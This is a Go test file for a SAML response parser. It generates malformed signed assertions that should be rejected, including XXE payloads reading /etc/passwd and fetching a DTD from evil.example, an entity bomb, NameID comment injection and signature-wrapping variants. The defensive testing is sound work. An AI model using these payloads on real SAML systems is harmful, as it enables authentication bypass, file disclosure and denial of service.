package saml

import (
	"fmt"
	"strings"
)

func badXML(name string, why error, text string) document {
	return document{name: name, text: text, kind: ErrMalformed, why: why.Error()}
}

func onSubject(s string) string {
	return change(signedAssertion(rsaA()), "<saml:Subject>", "<saml:Subject"+s)
}

// unreadable are documents that are not XML of the form that is taken. Most hold what was signed, and would verify.
func unreadable() []document {
	x := badXML
	good := signedAssertion(rsaA())
	const declaration = `<?xml version="1.0" encoding="UTF-8"?>`
	declared := func(s string) string { return change(good, declaration, declaration+s) }
	inName := func(s string) string { return change(good, ">alice<", ">"+s+"<") }
	bomb := `<!DOCTYPE b [<!ENTITY a "aaaaaaaaaa">`
	for i := 'b'; i < 'k'; i++ {
		bomb += fmt.Sprintf(`<!ENTITY %c "%s">`, i, strings.Repeat(fmt.Sprintf("&%c;", i-1), 10))
	}
	return []document{
		x("nothing", errNotXML, " "),
		x("text", errNotXML, "alice"),
		x("half", errNotXML, good[:len(good)/2]),
		x("two roots", errNotXML, good+"<a/>"),
		x("text after the root", errNotXML, good+"alice"),
		x("XML 1.1", errNotXML, change(good, `version="1.0" enc`, `version="1.1" enc`)),
		x("unknown entity", errNotXML, inName("&alice;")),
		x("two colons", errNotXML, onSubject("><saml:a:b/>")),
		x("a name that begins with a colon", errNamespace, onSubject("><:b/>")),
		x("NUL", errNotXML, inName("alice&#0;")),
		x("not UTF-8", errNotUTF8, change(good, "staff", "st\xe4ff")),
		x("Latin-1", errNotUTF8, change(good, "UTF-8", "ISO-8859-1")),
		x("UTF-16", errNotUTF8, "\xff\xfe"+strings.Join(strings.Split(good, ""), "\x00")),
		x("byte order mark", errInstruction, "\uFEFF"+good),
		x("DTD", errDTD, declared("<!DOCTYPE Response>")),
		x("XXE", errDTD, declared(`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`)),
		x("XXE by parameter", errDTD, declared(`<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/x.dtd"> %e;]>`)),
		x("entity bomb", errDTD, strings.Replace(declared(bomb+"]>"), ">alice<", ">&j;<", 1)),
		x("comment in NameID", errComment, inName("alice<!-- -->.evil")),
		x("comment that C14N leaves out", errComment, inName("ali<!---->ce")),
		x("comment before the root", errComment, declared("<!-- x -->")),
		x("CDATA", errCDATA, inName("<![CDATA[alice]]>")),
		x("processing instruction", errInstruction, inName("ali<?x y?>ce")),
		x("style sheet", errInstruction, declared(`<?xml-stylesheet href="x"?>`)),
		x("style sheet first", errInstruction, change(good, declaration, `<?xml-stylesheet href="x"?>`)),
		x("a second XML declaration", errInstruction, inName(declaration+"alice")),
		x("many elements", errTooMany, inName(strings.Repeat("<a/>", 990)+"alice")),
		x("many tags", errTooMany, inName(strings.Repeat("<a/>", 2000)+"alice")),
		x("deep", errTooDeep, inName(strings.Repeat("<a>", 17)+strings.Repeat("</a>", 17))),
	}
}

// ambiguous are documents in which a name could mean one thing or another, or nothing.
func ambiguous() []document {
	x := badXML
	good := signedAssertion(rsaA())
	attributes := ""
	for i := range maxAttributes + 1 {
		attributes += fmt.Sprintf(` a%d=""`, i)
	}
	namespaces := ""
	for i := range maxDeclarations {
		namespaces += fmt.Sprintf(`<a xmlns:p%d="urn:%d"/>`, i, i)
	}
	return []document{
		x("many attributes", errAttributes, onSubject(attributes+">")),
		x("attribute twice", errAttributes, change(good, `ID="_assertion"`, `ID="_assertion" ID="_evil"`)),
		x("attribute twice by two prefixes", errAttributes, onSubject(` xmlns:p="u" xmlns:q="u" p:x="" q:x="">`)),
		x("namespace twice", errAttributes, onSubject(` xmlns:p="u" xmlns:p="v">`)),
		x("many namespaces", errDeclarations, onSubject(">"+namespaces)),
		x("undeclared prefix", errNamespace, onSubject(` p:x="">`)),
		x("undeclared prefix of an element", errNamespace, onSubject(`><p:x/>`)),
		x("prefix taken back", errNamespace, onSubject(` xmlns:xs="">`)),
		x("xml for something else", errNamespace, onSubject(` xmlns:xml="u">`)),
		x("something else for xml", errNamespace, onSubject(` xmlns:x="http://www.w3.org/XML/1998/namespace">`)),
		x("xmlns declared", errNamespace, onSubject(` xmlns:xmlns="u">`)),
		x("an ID with a prefix", errForeignID, change(good, "<saml:Assertion ID=", `<saml:Assertion xsi:ID="_evil" ID=`)),
		x("xml:id", errForeignID, onSubject(` xml:id="_assertion">`)),
		x("id", errForeignID, onSubject(` id="_assertion">`)),
		x("ID twice", errSameID, change(good, `"_response"`, `"_assertion"`)),
		x("ID and Id", errSameID, change(good, "<ds:Signature ", `<ds:Signature Id="_assertion" `)),
	}
}

// Reasons of the layout, and of what an Assertion must have.
const (
	whySeveral   = "it has more than one Assertion"
	whyRoot      = "it is not a Response of SAML 2.0"
	whyAssertion = "its Assertion is not one of SAML 2.0, directly in the Response"
	whyPlace     = "it has a Signature that is not the first of Response or Assertion after the Issuer"
	whyCode      = "it has no StatusCode, or several"
	whyID        = "its Assertion has no ID of at most 256 letters, digits, '_', '-' and '.'"
	whyData      = "a bearer confirmation has no NotOnOrAfter, or has NotBefore"
	whyAuthn     = "its Assertion has no AuthnStatement, or several"
)

// badForm is a document that was changed after it was signed, badFormSigned one that was signed as it is.
func badForm(name, why, text string) document {
	return document{name: name, text: text, kind: ErrMalformed, why: why}
}

func badFormSigned(name, why string, changes ...string) document {
	return badForm(name, why, signedAssertion(rsaA(), changes...))
}

// misshapen are documents in which something is missing, stands twice, or in a wrong place.
func misshapen() []document {
	good := signedAssertion(rsaA())
	head, assertion, tail := cutAssertion(good)
	_, signature, _ := cutSignature(good)
	const declaration = `<?xml version="1.0" encoding="UTF-8"?>`
	const success = `<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/>`
	inKeyInfo := signing{keyInfo: "<ds:KeyInfo>" + signature + "</ds:KeyInfo>"}
	alone := change(assertion, "<saml:Assertion ", `<saml:Assertion xmlns:xsi="u" xmlns:saml="`+nsAssertion+`" `)
	m, s := badForm, badFormSigned
	return []document{
		m("an Assertion alone", whyRoot, declaration+alone),
		m("an envelope", whyRoot, declaration+"<e>"+strings.TrimPrefix(good, declaration)+"</e>"),
		m("another namespace", whyRoot, change(good, nsProtocol, "urn:oasis:names:tc:SAML:1.0:protocol")),
		m("another version", whyRoot, change(good, `ID="_response" Version="2.0"`, `ID="_response" Version="1.1"`)),
		m("no Assertion", "it has no Assertion", head+tail),
		m("two Assertions, both signed", whySeveral, head+assertion+change(assertion, "_assertion", "_second")+tail),
		m("an evil one after", whySeveral, head+assertion+evil(change(unsigned(assertion), "_assertion", "_evil"))+tail),
		m("an Assertion of another namespace", whySeveral, head+assertion+`<Assertion xmlns="u"/>`+tail),
		m("an Assertion deeper", whyAssertion, head+"<samlp:Extensions>"+assertion+"</samlp:Extensions>"+tail),
		s("an Assertion of SAML 1", whyAssertion, `ID="_assertion" Version="2.0"`, `ID="_assertion" Version="1.1"`),
		m("a Signature elsewhere", whyPlace, change(good, "<samlp:Status>", "<samlp:Status>"+signature)),
		m("a Signature at the end", whyPlace, head+before(unsigned(assertion), "</saml:Assertion>", signature)+tail),
		m("two Signatures of the Assertion", whyPlace, change(good, "</ds:Signature>", "</ds:Signature>"+signature)),
		m("a Signature in the Issuer", whyPlace, change(good, entity+"</saml:Issuer>\n  <", entity+signature+"</saml:Issuer>\n  <")),
		m("a Signature in the KeyInfo", whyPlace, rsaA().sign(plain(), "Assertion", inKeyInfo)),
		m("a Signature of another namespace", whyPlace, change(good, "<samlp:Status>", `<Signature xmlns="u"/><samlp:Status>`)),
		m("no Status", "it has no Status, or several", change(good, "samlp:Status>", "samlp:Extensions>")),
		m("no StatusCode", whyCode, change(good, success, "")),
		m("two StatusCodes", whyCode, change(good, success, success+`<samlp:StatusCode Value="x"/>`)),
	}
}

// incomplete are Assertions that were signed as they are, and lack what they must have, or have it twice.
func incomplete() []document {
	s := badFormSigned
	return []document{
		s("no ID of use", whyID, "_assertion", "a/ssertion"),
		s("a long ID", whyID, "_assertion", "_"+strings.Repeat("a", 256)),
		s("no Subject", whySubject, "saml:Subject>", "saml:Advice>"),
		s("two Subjects", whySubject, "<saml:Subject>", "<saml:Subject/><saml:Subject>"),
		s("no NameID", whySubject, "saml:NameID", "saml:BaseID"),
		s("two NameIDs", whySubject, "</saml:NameID>", "</saml:NameID><saml:NameID>admin</saml:NameID>"),
		s("an empty NameID", whySubject, ">alice<", "> \n <"),
		s("a long NameID", whySubject, ">alice<", ">"+strings.Repeat("ä", 513)+"<"),
		s("an element in NameID", whySubject, ">alice<", ">alice<b/><"),
		s("no end of the confirmation", whyData, `Data NotOnOrAfter="2026-06-01T12:05:00Z"`, "Data"),
		s("NotBefore in the confirmation", whyData, "Data NotOn", `Data NotBefore="2026-06-01T11:00:00Z" NotOn`),
		s("no data in the confirmation", whyData, "<saml:SubjectConfirmationData ", "<saml:Other "),
		s("no Conditions", "its Assertion has no Conditions, or several", "saml:Conditions", "saml:Advice"),
		s("an unknown condition", "it has a condition that is not known",
			"</saml:Conditions>", `<saml:Condition xsi:type="xs:string"/></saml:Conditions>`),
		s("no AuthnStatement", whyAuthn, "saml:AuthnStatement", "saml:Advice"),
		s("two AuthnStatements", whyAuthn, "</saml:AuthnStatement>", "</saml:AuthnStatement><saml:AuthnStatement/>"),
		s("an Attribute without a name", "an Attribute has no Name", ` Name="mail"`, ""),
	}
}

// badTimes are genuine responses with times of other forms than the one.
func badTimes() []document {
	row := func(name string, changes ...string) document {
		return document{name: "time " + name, text: signedAssertion(rsaA(), changes...), kind: ErrMalformed, why: whyTime}
	}
	rows := []document{
		row("of NotBefore", "2026-06-01T11:59:30Z", "2026-06-01"),
		row("of NotOnOrAfter", "2026-06-01T12:10:00.000Z", "2026-06-01"),
		row("of SessionNotOnOrAfter", "2026-06-01T20:00:00Z", "2026-06-01"),
	}
	for _, t := range []string{
		"2026-06-01T12:05:00", "2026-06-01T12:05:00+00:00", "2026-06-01T14:05:00+02:00", "2026-06-01 12:05:00Z", "1780315500",
		"2026-06-01T12:05Z", "2026-06-01T12:05:00,5Z", "2026-06-01T12:05:00.Z", "2026-06-01T12:05:00zZ", "2026-06-01T24:05:00Z",
		"2026-6-01T12:05:00.00Z", "2026-06-01T2:05:00.00Z", "Z", " 2026-06-01T12:05:00Z", "0001-01-01T00:00:00Z",
	} {
		rows = append(rows, row(t, "2026-06-01T12:05:00Z", t))
	}
	return rows
}
